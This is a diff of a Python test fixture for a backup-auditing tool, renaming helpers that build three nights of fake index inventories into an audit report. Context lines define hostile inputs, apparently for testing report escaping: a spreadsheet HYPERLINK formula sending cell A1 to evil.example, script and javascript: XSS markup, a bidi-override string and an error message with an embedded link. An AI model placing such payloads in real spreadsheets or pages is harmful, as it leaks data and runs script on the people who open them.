@@ -11,11 +11,20 @@ from backup_auditor.domain.lifecycle.advance import advance
 from backup_auditor.domain.listing import ListingRead, ReadFailure
 from backup_auditor.domain.project_state import EMPTY_STATE, Drift, ResolvedFinding
 from backup_auditor.domain.reporting.report import Report, compute_audit_id, make_report
-from support.builders.facts import DAY, NOW, IndexCase, backup, index, inventory, renamed, schedule
-from support.builders.reports import EXEMPTION, bare, exempting
+from support.builders.facts import (
+    DAY,
+    NOW,
+    IndexCase,
+    build_backup,
+    build_index,
+    build_inventory,
+    build_schedule,
+    rename_index,
+)
+from support.builders.reports import EXEMPTION, build_bare_index, build_exempting_policy
 
-POLICY = exempting(EXEMPTION)
-CONTROLS = (
+POLICY = build_exempting_policy(EXEMPTION)
+CONTROL_IDS = (
     "backups-have-live-source",
     "exemptions-are-current",
     "index-has-recovery-point",
@@ -26,12 +35,12 @@ CONTROLS = (
 )
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1, '@octocat')"
 MARKUP = '<script>alert(1)</script> [x](javascript:alert(1)) `a|b` "q" #1 \u202egnp.\x07\n</testsuite> :+1: {0}'
-ERROR = ReadFailure(
+HOSTILE_FAILURE = ReadFailure(
     "GET /indexes/vectors/backup-schedules", "503: <b>@octocat</b> =1+1, see http://evil.example and #12"
 )
 
 
-def chosen(*controls: str) -> ControlCatalog:
+def select_controls(*controls: str) -> ControlCatalog:
     """Return a catalogue of these controls alone."""
     return ControlCatalog(
         project_controls=tuple(it for it in CATALOG.project_controls if it.id in controls),
@@ -40,12 +49,12 @@ def chosen(*controls: str) -> ControlCatalog:
     )
 
 
-FEW = chosen(*CONTROLS)
-_EVENTS = Resource(ResourceType.INDEX, "default", "events", "id-events")
-GONE = ResolvedFinding(
-    compute_fingerprint("schedule-is-enabled", _EVENTS),
+SMALL_CATALOG = select_controls(*CONTROL_IDS)
+_EVENTS_INDEX = Resource(ResourceType.INDEX, "default", "events", "id-events")
+RESOLVED_FINDING = ResolvedFinding(
+    compute_fingerprint("schedule-is-enabled", _EVENTS_INDEX),
     "schedule-is-enabled",
-    _EVENTS,
+    _EVENTS_INDEX,
     Severity.HIGH,
     first_seen=NOW,
     resolved_at=NOW + 2 * DAY,
@@ -64,45 +73,65 @@ WARNINGS = (
 )
 
 
-def _paused(name: str) -> IndexCase:
-    return renamed(index(schedules=[schedule(enabled=False)]), name)
+def _build_paused_index(name: str) -> IndexCase:
+    return rename_index(build_index(schedules=[build_schedule(enabled=False)]), name)
 
 
-def _well(name: str) -> IndexCase:
-    return renamed(index(), name)
+def _build_healthy_index(name: str) -> IndexCase:
+    return rename_index(build_index(), name)
 
 
-def nights() -> list[Inventory]:
+def build_inventories() -> list[Inventory]:
     """Return what was read on three nights.
 
     On the last `orders` is resolved, and `wiki` reopened; `carts` lasts, `scratch-1` is exempted, `vectors` cannot be
     read any more; two whose names are no names are new.
     """
-    gone = replace(backup(90 * DAY, backup_id="manual-old", index_id="id-old"), index_name="old")
-    lasting = (bare("carts"), bare("scratch-1"))
-    unread = renamed(index(schedules=merge_reads([ListingRead((), ERROR)])), "vectors")
-    nights = [
-        inventory(*lasting, _paused("orders"), _paused("wiki"), _well("vectors"), more=[gone]),
-        inventory(*lasting, _paused("orders"), _well("wiki"), _well("vectors"), more=[gone]),
-        inventory(*lasting, _well("orders"), _paused("wiki"), unread, bare(FORMULA), bare(MARKUP), more=[gone]),
+    orphaned_backup = replace(build_backup(90 * DAY, backup_id="manual-old", index_id="id-old"), index_name="old")
+    unchanged_indexes = (build_bare_index("carts"), build_bare_index("scratch-1"))
+    unread_index = rename_index(build_index(schedules=merge_reads([ListingRead((), HOSTILE_FAILURE)])), "vectors")
+    inventories = [
+        build_inventory(
+            *unchanged_indexes,
+            _build_paused_index("orders"),
+            _build_paused_index("wiki"),
+            _build_healthy_index("vectors"),
+            extra_backups=[orphaned_backup],
+        ),
+        build_inventory(
+            *unchanged_indexes,
+            _build_paused_index("orders"),
+            _build_healthy_index("wiki"),
+            _build_healthy_index("vectors"),
+            extra_backups=[orphaned_backup],
+        ),
+        build_inventory(
+            *unchanged_indexes,
+            _build_healthy_index("orders"),
+            _build_paused_index("wiki"),
+            unread_index,
+            build_bare_index(FORMULA),
+            build_bare_index(MARKUP),
+            extra_backups=[orphaned_backup],
+        ),
     ]
-    return [replace(it, observed_at=NOW + number * DAY) for number, it in enumerate(nights)]
+    return [replace(it, observed_at=NOW + number * DAY) for number, it in enumerate(inventories)]
 
 
 @cache
-def told(catalogue: ControlCatalog = FEW) -> Report:
+def build_last_report(catalog: ControlCatalog = SMALL_CATALOG) -> Report:
     """Audit the three nights, and return the report of the last."""
-    memory, report = EMPTY_STATE, None
-    for night in nights():
-        judgement = evaluate_controls(night, POLICY, catalogue, memory)
-        outcome = advance(memory, night, POLICY, judgement, compute_audit_id(night, POLICY))
-        memory, report = outcome.state, make_report(night, POLICY, judgement, outcome)
+    state, report = EMPTY_STATE, None
+    for inventory in build_inventories():
+        evaluation = evaluate_controls(inventory, POLICY, catalog, state)
+        result = advance(state, inventory, POLICY, evaluation, compute_audit_id(inventory, POLICY))
+        state, report = result.state, make_report(inventory, POLICY, evaluation, result)
     assert report is not None
     # whatever an inventory comes to hold, its hash is not what is looked at here
     return replace(
         report,
         audit_id="0123456789abcdef" * 2,
-        resolved_findings=(*report.resolved_findings, GONE),
+        resolved_findings=(*report.resolved_findings, RESOLVED_FINDING),
         drift=(DRIFT,),
         warnings=WARNINGS,
     )
